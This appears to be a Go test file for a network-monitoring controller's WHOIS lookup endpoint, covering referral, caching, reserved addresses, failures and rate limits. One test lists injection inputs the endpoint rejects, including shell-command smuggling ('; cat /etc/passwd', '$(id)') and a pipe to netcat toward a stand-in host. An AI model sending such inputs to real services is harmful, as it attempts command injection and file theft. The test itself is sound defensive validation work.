package api_test

import (
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/netwatcher/netwatcher/controller/lookup/whois/whoistest"
	"github.com/netwatcher/netwatcher/controller/testenv"
)

// arinAnswer is ARIN's record of 45.40.16.9, in ARIN's layout.
const arinAnswer = "NetRange:       45.40.16.0 - 45.40.16.255\r\nCIDR:           45.40.16.0/24\r\nNetName:        NWC-45-40-16\r\n" +
	"Organization:   Northwind Cloud Inc. (NWC-1)\r\nRegDate:        2019-03-01\r\nUpdated:        2023-07-11\r\n\r\n" +
	"OrgName:        Northwind Cloud Inc.\r\nCountry:        US\r\nOrgAbuseEmail:  abuse@northwind.example\r\n"

// whoisInternet is IANA referring 45.0.0.0/8 to ARIN, on loopback.
type whoisInternet struct {
	net        *whoistest.Network
	iana, arin *whoistest.Server
}

func newWhoisInternet(t *testing.T) *whoisInternet {
	n := whoistest.NewNetwork(t)
	return &whoisInternet{
		net:  n,
		iana: n.Serve("whois.iana.org:43", whoistest.AnswerWith("refer:        whois.arin.net\n\ninetnum:      45.0.0.0 - 45.255.255.255\n")),
		arin: n.Serve("whois.arin.net:43", whoistest.AnswerWith(arinAnswer)),
	}
}

// withWhoisInternet runs fn per backend against a controller whose WHOIS
// client reaches its own whoisInternet, so connections can be counted.
func withWhoisInternet(t *testing.T, fn func(t *testing.T, env *testenv.Env, internet *whoisInternet), opts ...testenv.Option) {
	for _, b := range testenv.Backends {
		t.Run(string(b), func(t *testing.T) {
			internet := newWhoisInternet(t)
			fn(t, testenv.Start(t, b, append(opts, testenv.WithWhois("", internet.net.Dial))...), internet)
		})
	}
}

func whoisPath(param, value string) string {
	return "/whois/lookup?" + url.Values{param: {value}}.Encode()
}

func TestWhoisReferralChainAndCache(t *testing.T) {
	t.Parallel()
	withWhoisInternet(t, func(t *testing.T, env *testenv.Env, internet *whoisInternet) {
		u := env.NewUser()

		first := env.Call("GET", whoisPath("query", "45.40.16.9"), u.Token, nil, http.StatusOK).Map(t)
		wantKeys(t, "WHOIS answer", first, []string{"query", "raw_output", "parsed", "lookup_time_ms", "server"})
		wantKeys(t, "parsed", first["parsed"].(map[string]any), []string{"netname", "netrange", "organization", "country", "created", "updated", "abuse_email"})
		parsed := first["parsed"].(map[string]any)
		if first["query"] != "45.40.16.9" || first["server"] != "whois.arin.net" || parsed["netname"] != "NWC-45-40-16" ||
			parsed["organization"] != "Northwind Cloud Inc." || parsed["country"] != "US" || parsed["abuse_email"] != "abuse@northwind.example" ||
			!strings.Contains(first["raw_output"].(string), "NetName:        NWC-45-40-16\n") {
			t.Errorf("answer %v", first)
		}
		if ms := num(t, first, "lookup_time_ms"); ms < 0 || ms > 5000 {
			t.Errorf("lookup_time_ms = %d", ms)
		}
		if !slices.Equal(internet.arin.Received(), []string{"n + 45.40.16.9"}) {
			t.Errorf("ARIN received %q", internet.arin.Received())
		}

		// The answer is now in the metadata store: ip= and another
		// spelling of the address are served from it without a connection.
		dials := len(internet.net.Dialed())
		for _, path := range []string{whoisPath("ip", "45.40.16.9"), whoisPath("query", "::ffff:45.40.16.9")} {
			again := env.Call("GET", path, u.Token, nil, http.StatusOK).Map(t)
			if again["cached"] != true || again["raw_output"] != first["raw_output"] {
				t.Errorf("%s: not served from the cache: %v", path, again)
			}
			wantTime(t, "cache_time", again["cache_time"])
		}
		if d := internet.net.Dialed(); len(d) != dials {
			t.Errorf("cached lookups dialled %q", d[dials:])
		}
	})
}

// TestWhoisReservedAddresses are answered by the controller itself.
func TestWhoisReservedAddresses(t *testing.T) {
	t.Parallel()
	internet := newWhoisInternet(t)
	env := testenv.Start(t, testenv.SQLite, testenv.WithWhois("", internet.net.Dial))
	u := env.NewUser()
	for addr, netname := range map[string]string{"10.1.2.3": "PRIVATE-ADDRESS-SPACE", "127.0.0.1": "LOOPBACK-ADDRESS", "fe80::1": "LINK-LOCAL-ADDRESS", "2001:db8::1": "DOCUMENTATION-ADDRESS"} {
		res := env.Call("GET", whoisPath("ip", addr), u.Token, nil, http.StatusOK).Map(t)
		if res["parsed"].(map[string]any)["netname"] != netname || res["server"] != nil {
			t.Errorf("%s: %v", addr, res)
		}
	}
	if d := internet.net.Dialed(); len(d) != 0 {
		t.Errorf("reserved addresses caused connections: %q", d)
	}
}

// TestWhoisRejectsInjection: anything but an IP address or a domain name is
// a 400 before any connection.
func TestWhoisRejectsInjection(t *testing.T) {
	t.Parallel()
	withWhoisInternet(t, func(t *testing.T, env *testenv.Env, internet *whoisInternet) {
		u := env.NewUser()
		for _, q := range []string{
			"-h x", "-h whois.evil.example 8.8.8.8", "8.8.8.8 -h x", "example.com -T dn", "8.8.8.8; cat /etc/passwd", "example.com;id",
			"example.com\r\nquit", "example.com\n", "8.8.8.8\n", "$(id).example.com", "`id`.example.com", "example.com|nc evil 1",
			"example .com", "localhost", "AS15169", "8.8.8.8/24", strings.Repeat("a", 64) + ".com", strings.Repeat("a.", 200) + "com",
			strings.Repeat("x", 100000),
		} {
			wantError(t, env.Do(testenv.Request{Method: "GET", Path: whoisPath("query", q), Token: u.Token}), http.StatusBadRequest, "neither an IP address nor a domain name")
		}
		for _, path := range []string{"/whois/lookup", whoisPath("ip", "example.com"), whoisPath("ip", "8.8.8.8\n"),
			"/whois/lookup?query=8.8.8.8&ip=1.1.1.1"} {
			wantError(t, env.Do(testenv.Request{Method: "GET", Path: path, Token: u.Token}), http.StatusBadRequest)
		}
		if d := internet.net.Dialed(); len(d) != 0 {
			t.Errorf("invalid queries caused connections: %q", d)
		}
	})
}

// TestWhoisServerFailures: no answer within NETWATCHER_WHOIS_TIMEOUT is a
// 504; a server that cannot be reached is a 503.
func TestWhoisServerFailures(t *testing.T) {
	t.Parallel()
	n := whoistest.NewNetwork(t)
	n.Serve("whois.iana.org:43", whoistest.AnswerWith("refer: whois.gone.example\n"))
	n.Serve("slow.example:43", whoistest.NeverAnswer)
	env := testenv.Start(t, testenv.SQLite, testenv.WithWhois("", n.Dial), testenv.WithWhoisTimeout(200*time.Millisecond))
	u := env.NewUser()
	wantError(t, env.Do(testenv.Request{Method: "GET", Path: whoisPath("query", "93.184.216.34"), Token: u.Token}),
		http.StatusServiceUnavailable, "whois.gone.example")

	slow := testenv.Start(t, testenv.SQLite, testenv.WithWhois("slow.example:43", n.Dial), testenv.WithWhoisTimeout(200*time.Millisecond))
	wantError(t, slow.Do(testenv.Request{Method: "GET", Path: whoisPath("query", "example.com"), Token: slow.NewUser().Token}),
		http.StatusGatewayTimeout, "timed out after 200ms")
}

// TestLookupRateLimit: WHOIS, combined and bulk lookups share one budget per
// user; single GeoIP and OUI lookups do not spend it.
func TestLookupRateLimit(t *testing.T) {
	t.Parallel()
	const limit = 3
	testenv.ForEachBackend(t, func(t *testing.T, env *testenv.Env) {
		u, other := env.NewUser(), env.NewUser()
		env.Call("GET", whoisPath("ip", "10.0.0.1"), u.Token, nil, http.StatusOK)
		env.Call("GET", "/lookup/combined?ip=10.0.0.2", u.Token, nil, http.StatusOK)
		env.Call("POST", "/geoip/lookup", u.Token, map[string]any{"ips": []string{"192.0.2.1"}}, http.StatusOK)
		for _, req := range []testenv.Request{
			{Method: "GET", Path: whoisPath("ip", "10.0.0.3")},
			{Method: "GET", Path: "/lookup/combined?ip=10.0.0.3"},
			{Method: "POST", Path: "/geoip/lookup", Body: map[string]any{"ips": []string{"192.0.2.1"}}},
			{Method: "POST", Path: "/lookup/oui", Body: map[string]any{"macs": []string{"00:1C:42:AB:CD:EF"}}},
		} {
			req.Token = u.Token
			wantLimited(t, env.Do(req), "lookups")
		}
		env.Call("GET", geoIPPath("192.0.2.1"), u.Token, nil, http.StatusOK)
		env.Call("GET", whoisPath("ip", "10.0.0.1"), other.Token, nil, http.StatusOK)
	}, testenv.WithLookupRateLimit(limit), withMaxMindGeoIP(t))
}
